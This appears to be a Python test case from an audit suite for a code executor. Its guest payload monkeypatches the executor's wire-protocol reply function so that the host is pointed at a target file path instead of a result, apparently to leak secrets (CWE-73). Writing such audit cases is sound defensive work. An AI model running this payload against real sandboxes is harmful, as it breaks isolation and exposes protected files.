"""Answer one's cell with the name of a file in place of a result"""

from executor.audit.attack import Attack, Harm

ATTACK = Attack(
    harm=Harm.SECRET,
    references=("CWE-73", "CWE-20"),
    careless=True,
    guest="""
import sys


def part(end):
    return next(m for name, m in list(sys.modules.items()) if name.endswith(end))


import json

path = target["file"]
header = {"verdict": "ok", "pieces": [0, 0, [path, 32, 0]]}
part(".wire").pack_reply = lambda reply: json.dumps(header) + "\\n"
""",
)
